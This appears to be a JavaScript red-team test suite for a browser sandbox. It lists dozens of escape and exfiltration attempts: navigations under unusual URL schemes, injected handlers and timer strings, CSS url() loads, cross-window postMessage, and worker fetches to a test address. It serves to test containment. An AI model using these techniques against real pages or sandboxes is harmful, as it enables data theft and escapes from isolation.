// What rounds of attack added, each by somebody who had not written boot.js.

// Schemes and spellings of an address that a browser, or what it hands the address to, may look up.
const spellings = {
  'of no scheme': (t) => `//${t.host}/`,
  'with backslashes': (t) => `\\\\${t.host}\\share`,
  'with a user and a password': (t) => `http://user:${t.mark}@${t.host}/`,
  'with a final dot': (t) => `http://${t.host}./`,
  'with a port': (t) => `http://${t.host}:81/`,
  'of a web socket': (t) => `ws://${t.host}/`,
  'of a file server': (t) => `ftp://${t.host}/`,
  'of a Windows share': (t) => `smb://${t.host}/share`,
  'of a file with a host': (t) => `file://${t.host}/share`,
  'of a secure shell': (t) => `sftp://${t.host}/`,
  'of a directory service': (t) => `ldap://${t.host}/`,
  'of a stream': (t) => `rtsp://${t.host}/`,
  'of mail': (t) => `mailto:${t.mark}@${t.host}?body=${t.mark}`,
  'of a telephone': (t) => `tel:${t.mark}`,
  'of an app by intent': (t) => `intent://${t.host}/#Intent;scheme=http;end`,
  'of a web app’s protocol': (t) => `web+zq://${t.host}/`,
  'of a calendar': (t) => `webcal://${t.host}/`,
  'of an archive inside': (t) => `jar:http://${t.host}/x.jar!/x`,
  'of a blob of another origin': (t) => `blob:http://${t.host}/11111111-1111-1111-1111-111111111111`,
  'of code that fetches': (t) => `javascript:fetch('${t.named}')`,
};
for (const [name, spell] of Object.entries(spellings)) {
  solo(`round 1: go to an address ${name}`, (t) => { location.href = spell(t); });
}

// The program's own script has an address, which a stack tells.
const ownAddress = () => /(blob|about):[^\s)]+?(?=:\d)/.exec(new Error('x').stack)[0];
way('round 1: import of the own script', async (t) => {
  const own = await import(ownAddress());
  return own.default(t.url());
});
alone('round 1: the own script as a document', (t) => { location.href = `${ownAddress()}#${t.mark}`; });
way('round 1: a worker of the own script', (t) => new Worker(ownAddress(), { name: t.url() }));
way('round 1: copies of the own script with other words', (t) => {
  const copies = [hostile.ownScript.cloneNode(true), hostile.ownScript.cloneNode(false)];
  for (const copy of copies) {
    for (const node of [copy, ...copy.childNodes]) {
      for (const name of ['text', 'textContent', 'innerText', 'data', 'nodeValue']) {
        try { node[name] = `new Image().src = '${t.url('png')}'`; } catch (error) { /* the next */ }
      }
    }
    inHead(copy);
    copy.src = t.url('js');
    copy.setAttribute('src', t.url('js'));
    inHead(copy);
  }
});
way('round 1: code by the constructors of other functions', async (t) => {
  const kinds = [async () => {}, function* make() {}, async function* make() {}, () => {}];
  for (const { constructor } of kinds) {
    try { await constructor(`return fetch('${t.url()}')`)(); } catch (error) { /* the next */ }
  }
});
way('round 1: code as a string for a timer', (t) => {
  setTimeout(`new Image().src='${t.url('png')}'`, 1);
  setInterval(`fetch('${t.url()}')`, 50);
});
way('round 1: a handler attribute of every kind', (t) => {
  const box = put('button');
  for (const name of ['onclick', 'onfocus', 'ontoggle', 'onbeforetoggle', 'onpointerdown', 'onanimationstart']) {
    box.setAttribute(name, `fetch('${t.url()}')`);
  }
  box.click();
  box.focus();
});
way('round 1: an attribute node taken from elsewhere', (t) => {
  const first = document.createElement('input');
  first.setAttribute('src', t.url('png'));
  const second = document.createElement('input');
  second.setAttribute('type', 'image');
  const node = first.getAttributeNode('src');
  first.attributes.removeNamedItem('src');
  second.attributes.setNamedItem(node);
  place(second);
});
way('round 1: the value of an attribute node', (t) => {
  const cell = place(document.createElement('table')).insertRow().insertCell();
  cell.setAttribute('background', '');
  cell.getAttributeNode('background').value = t.url('png');
  cell.getAttributeNode('background').textContent = t.url('png');
});
way('round 1: elements that tables, lists and options make', (t) => {
  const table = place(document.createElement('table'));
  for (const made of [table.createCaption(), table.createTHead(), table.createTFoot(), table.insertRow()]) {
    made.setAttribute('background', t.url('png'));
    made.background = t.url('png');
  }
  const select = place(document.createElement('select'));
  if (select.options) select.options.length = 2;
});
way('round 1: a clone of the body before the body', (t) => {
  const copy = document.body.cloneNode(false);
  copy.setAttribute('background', t.url('png'));
  document.documentElement.insertBefore(copy, document.head);
});
solo('round 1: the body is another one, then goes', (t) => {
  const copy = document.body.cloneNode(false);
  document.documentElement.insertBefore(copy, document.head);
  for (const body of [...document.getElementsByTagName('body')]) {
    try { document.documentElement.removeChild(body); } catch (error) { /* it stays */ }
  }
  location.href = t.named;
});
solo('round 1: the body in a table that goes', (t) => {
  const table = document.createElement('table');
  for (const name of ['caption', 'tHead', 'tFoot']) {
    try { table[name] = document.body; } catch (error) { /* the next */ }
  }
  location.href = t.named;
});
solo('round 1: a text that swallows the body', (t) => {
  for (const name of ['textContent', 'nodeValue', 'innerText', 'data']) {
    for (const node of [document, document.documentElement, document.doctype]) {
      try { node[name] = 'x'; } catch (error) { /* the next */ }
    }
  }
  location.href = t.named;
});
solo('round 1: a navigation while a handler is halted', (t) => {
  window.addEventListener('hashchange', () => { location.href = t.named; });
  location.hash = 'x';
});
solo('round 1: a navigation from a message', (t) => {
  window.addEventListener('message', () => { location.href = t.named; }, { once: true });
  window.dispatchEvent(new MessageEvent('message', { data: 1 }));
});
solo('round 1: a navigation as the last microtask of a long task', async (t) => {
  const end = performance.now() + 400;
  while (performance.now() < end) await null;
  location.assign(t.named);
});
solo('round 1: a navigation under a getter of the event', (t) => {
  for (const name of ['type', 'eventPhase', 'cancelBubble', 'returnValue', 'defaultPrevented', 'target']) {
    try {
      Object.defineProperty(Event.prototype, name, { configurable: true, get: () => 'x', set() {} });
    } catch (error) { /* the next */ }
  }
  location.href = t.named;
});
solo('round 1: a navigation with listeners taken from EventTarget', (t) => {
  Object.setPrototypeOf(window, null);
  location.href = t.named;
});
solo('round 1: a navigation on a full stack', (t) => {
  // The halt is code, and code needs room on the stack.
  const dive = () => { try { dive(); } finally { location.href = t.named; } };
  dive();
});
// Chromium calls scripts from its own code only so many times within each other.
const nested = {
  'events': (go) => {
    const box = put('button');
    let depth = 0;
    box.addEventListener('x', () => {
      depth += 1;
      if (depth < 100) box.dispatchEvent(new Event('x'));
      go();
    });
    box.dispatchEvent(new Event('x'));
  },
  'clicks': (go) => {
    const boxes = Array.from({ length: 100 }, () => put('button'));
    boxes.forEach((box, index) => {
      box.onclick = () => {
        if (boxes[index + 1]) boxes[index + 1].click();
        go();
      };
    });
    boxes[0].click();
  },
  'toString of values': (go) => {
    let depth = 0;
    const box = put('p');
    const value = { toString: () => {
      depth += 1;
      if (depth < 100) box.title = value;
      go();
      return 'x';
    } };
    box.title = value;
  },
  'sorts': (go) => {
    let depth = 0;
    const sort = () => [2, 1].sort(() => {
      depth += 1;
      if (depth < 100) sort();
      go();
      return 0;
    });
    sort();
  },
  'XPath resolvers': (go) => {
    let depth = 0;
    const resolve = () => {
      depth += 1;
      if (depth < 100) { try { document.evaluate('p:x', document, resolve, 0, null); } catch (error) { /* deep enough */ } }
      go();
      return 'x';
    };
    document.evaluate('p:x', document, resolve, 0, null);
  },
  'XPath resolvers that are objects': (go) => {
    let depth = 0;
    const resolver = { lookupNamespaceURI: () => {
      depth += 1;
      if (depth < 100) { try { document.evaluate('p:x', document, resolver, 0, null); } catch (error) { /* deep enough */ } }
      go();
      return 'x';
    } };
    document.evaluate('p:x', document, resolver, 0, null);
  },
  'invalid events': (go) => {
    const fields = Array.from({ length: 100 }, () => put('input', { required: '' }));
    fields.forEach((field, index) => {
      field.oninvalid = () => {
        if (fields[index + 1]) fields[index + 1].checkValidity();
        go();
      };
    });
    fields[0].checkValidity();
  },
  'invalid events that are reported': (go) => {
    const forms = Array.from({ length: 100 }, () => put('form'));
    forms.forEach((form, index) => {
      const field = make('input', { required: '' });
      form.appendChild(field);
      field.oninvalid = () => {
        if (forms[index + 1]) forms[index + 1].reportValidity();
        go();
      };
    });
    forms[0].reportValidity();
  },
  'reset events': (go) => {
    const forms = Array.from({ length: 100 }, () => put('form'));
    forms.forEach((form, index) => {
      form.onreset = () => {
        if (forms[index + 1]) forms[index + 1].reset();
        go();
      };
    });
    forms[0].reset();
  },
  'submit events': (go) => {
    const forms = Array.from({ length: 100 }, () => put('form'));
    forms.forEach((form, index) => {
      form.onsubmit = (event) => {
        event.preventDefault();
        if (forms[index + 1]) forms[index + 1].requestSubmit();
        go();
      };
    });
    forms[0].requestSubmit();
  },
  'toggle events': (go) => {
    const boxes = Array.from({ length: 100 }, () => put('div', { popover: 'manual' }));
    boxes.forEach((box, index) => {
      box.onbeforetoggle = () => {
        if (boxes[index + 1]) boxes[index + 1].showPopover();
        go();
      };
    });
    boxes[0].showPopover();
  },
  'focus events': (go) => {
    const fields = Array.from({ length: 100 }, () => put('input'));
    fields.forEach((field, index) => {
      field.onfocus = () => {
        if (fields[index + 1]) fields[index + 1].focus();
        go();
      };
    });
    fields[0].focus();
  },
  'filters of tree walkers': (go) => {
    let depth = 0;
    const walk = () => document.createTreeWalker(document.documentElement, 1, () => {
      depth += 1;
      if (depth < 100) walk();
      go();
      return 1;
    }).nextNode();
    walk();
  },
  'errors that are told': (go) => {
    let depth = 0;
    window.addEventListener('error', () => {
      depth += 1;
      if (depth < 100) reportError(new Error('x'));
      go();
    });
    const box = put('button');
    box.onclick = () => { throw new Error('x'); };
    box.click();
  },
};
for (const [name, nest] of Object.entries(nested)) {
  solo(`round 2: a navigation within ${name} a hundred deep`, (t) => {
    nest(() => { location.href = t.named; });
  });
}

// Styles without style elements.
way('round 1: the owner of the old sheet', (t) => {
  const { ownerNode } = document.styleSheets[0];
  ownerNode.textContent = `@import url("${t.url('css')}"); body { background: url("${t.url('png')}") }`;
  const copy = ownerNode.cloneNode(true);
  copy.textContent = `body { background: url("${t.url('png')}") }`;
  inHead(copy);
});
way('round 1: a rule’s own style', (t) => {
  const { cssRules } = document.styleSheets[0];
  for (const rule of cssRules) {
    if (rule.style) rule.style.setProperty('background', `url("${t.url('png')}")`, 'important');
  }
});
way('round 1: media and title of the old sheet', (t) => {
  document.styleSheets[0].media.mediaText = `url("${t.url('css')}")`;
  document.styleSheets[0].insertRule(`@import "${t.url('css')}" screen;`, 0);
});
for (const [name, value] of Object.entries({
  'a gradient and an image': 'linear-gradient(red, red), url("URL")',
  'an escape': 'u\\72l("URL")',
  'an image with a type': 'image-set("URL" type("image/png") 1x)',
  'an element': '-moz-element(#x), url("URL")',
  'light-dark': 'light-dark(url("URL"), url("URL"))',
  'attr': 'attr(data-x type(<url>), url("URL"))',
  'if': 'if(else: url("URL"))',
})) {
  way(`round 1: a background of ${name}`, (t) => {
    const box = put('div', { 'data-x': t.url('png') });
    box.textContent = 'x';
    box.style.background = value.replaceAll('URL', t.url('png'));
  });
}
for (const property of ['cursor', 'list-style-image', '-webkit-box-reflect', 'mask-border', 'border-image-source']) {
  way(`round 1: a registered address in ${property}`, (t) => {
    const box = put('li');
    box.style.setProperty('--address', `url("${t.url('png')}")`);
    box.style.setProperty(property, 'var(--address)');
    box.getBoundingClientRect();
  });
}

// What an opener or a neighbour could see of a window that it holds.
opened('round 1: the top loses the focus', () => { top.blur(); top.focus(); });
opened('round 1: a name for the frame', (t) => {
  window.name = t.mark;
  self.name = t.mark;
  Object.defineProperty(window, 'name', { value: t.mark });
});
opened('round 1: a message to every window at hand', (t) => {
  const holders = [top, top.opener, top.parent, top[0], top.frames, window.self, document.defaultView];
  for (const holder of holders) {
    for (const target of ['*', config.own, config.other, '/', 'null']) {
      try { holder.postMessage(t.mark, target); } catch (error) { /* the next */ }
      try { holder.postMessage(t.mark, { targetOrigin: target }); } catch (error) { /* the next */ }
    }
  }
});
opened('round 1: a message by the source of a message', (t) => {
  window.addEventListener('message', (event) => {
    if (event.source) event.source.postMessage(t.mark, '*');
    for (const port of event.ports || []) port.postMessage(t.mark);
  }, { once: true });
  top.postMessage('ready', '*');
});
opened('round 1: ready said again', (t) => {
  top.postMessage('ready', '*');
  top.postMessage({ data: 'ready', mark: t.mark }, '*');
});
way('round 1: a scroll of the page outside', () => {
  const box = put('div');
  box.style.height = '9000px';
  const last = put('p');
  last.scrollIntoView({ block: 'end', inline: 'end', behavior: 'instant' });
  last.focus();
});
way('round 1: an event for the page outside', (t) => {
  for (const kind of [Event, CustomEvent, MessageEvent, UIEvent, InputEvent]) {
    const event = new kind(t.mark, { bubbles: true, composed: true, cancelable: true, detail: t.mark, data: t.mark });
    document.body.dispatchEvent(event);
    try { top.dispatchEvent(event); } catch (error) { /* another origin */ }
  }
});
way('round 1: storage of the worker’s and the document’s prototypes', (t) => {
  for (const name of ['localStorage', 'sessionStorage', 'caches', 'indexedDB', 'cookieStore', 'navigator']) {
    for (const holder of [window, Object.getPrototypeOf(window), Object.getPrototypeOf(Object.getPrototypeOf(window))]) {
      const found = Object.getOwnPropertyDescriptor(holder, name);
      if (found && found.get) found.get.call(window).setItem(t.mark, t.mark);
    }
  }
});
way('round 1: evaluate with a document of another address', (t) => {
  for (const path of [`document('${t.url('xml')}')`, `doc('${t.url('xml')}')`, `unparsed-text('${t.url()}')`]) {
    try { document.evaluate(path, document, (prefix) => t.url(prefix)); } catch (error) { /* the next */ }
  }
});
way('round 1: createEvent of kinds that hold windows', (t) => {
  for (const kind of ['MessageEvent', 'StorageEvent', 'DragEvent', 'TouchEvent', 'CompositionEvent', 'HashChangeEvent']) {
    try {
      const event = document.createEvent(kind);
      if (event.initMessageEvent) event.initMessageEvent('message', true, true, t.mark, config.own, '', top, []);
      if (event.initStorageEvent) event.initStorageEvent('storage', true, true, t.mark, null, t.mark, t.url(), null);
      window.dispatchEvent(event);
      if (event.dataTransfer) event.dataTransfer.setData('text/uri-list', t.url());
    } catch (error) { /* the next */ }
  }
});
way('round 1: internals of an element', (t) => {
  const internals = document.createElement('x-y').attachInternals();
  internals.setFormValue(t.mark);
  internals.states.add(t.mark);
});
way('round 1: a chooser of a field', () => {
  for (const type of ['file', 'color', 'date', 'datetime-local', 'time', 'month', 'week']) {
    try { put('input', { type }).showPicker(); } catch (error) { /* the next */ }
  }
});
way('round 1: a picture in a field, by every name', (t) => {
  const field = put('input', { type: 'image', formaction: t.url(), srcset: `${t.url('png')} 1x`, lowsrc: t.url('png') });
  field.src = t.url('png');
  field.alt = t.mark;
  field.click();
});
way('round 1: invokers of buttons', (t) => {
  const box = put('div', { id: `b${t.mark}`, popover: 'auto' });
  const button = put('button', { popovertarget: box.id, commandfor: box.id, command: 'show-popover', interestfor: box.id });
  button.popoverTargetElement = box;
  button.click();
});
for (const command of ['show-modal', '--custom', 'request-close', 'toggle-fullscreen', 'copy-text', 'share']) {
  way(`round 1: a button’s command ${command}`, (t) => {
    const button = put('button', { command, commandfor: 'app', value: t.url() });
    button.click();
  });
}
inWorker('round 1: worker: every prototype for a way out', (t) => {
  const names = ['fetch', 'importScripts', 'WebSocket', 'EventSource', 'XMLHttpRequest', 'BroadcastChannel', 'Worker',
    'indexedDB', 'caches', 'navigator', 'WebTransport', 'FontFace', 'fonts', 'URL', 'Blob', 'reportError', 'MessageChannel'];
  for (let holder = self; holder; holder = Object.getPrototypeOf(holder)) {
    for (const name of names) {
      const found = Object.getOwnPropertyDescriptor(holder, name);
      const thing = found && (found.value || found.get.call(self));
      if (typeof thing === 'function') { try { new thing(t.url()); } catch (error) { thing.call(self, t.url()); } }
    }
  }
});
inWorker('round 1: worker: import of its own script', (t) => import(`${/blob:[^\s)]+?(?=:\d)/.exec(new Error('x').stack)[0]}#${t.mark}`));
inWorker('round 1: worker: a message that is no answer', (t) => {
  postMessage({ token: t.mark, index: 0, url: t.url() });
  self.dispatchEvent(new MessageEvent('message', { data: { keys: [t.mark] } }));
});
inWorker('round 1: worker: an error with words', (t) => { setTimeout(() => { throw new Error(t.url()); }, 1); });
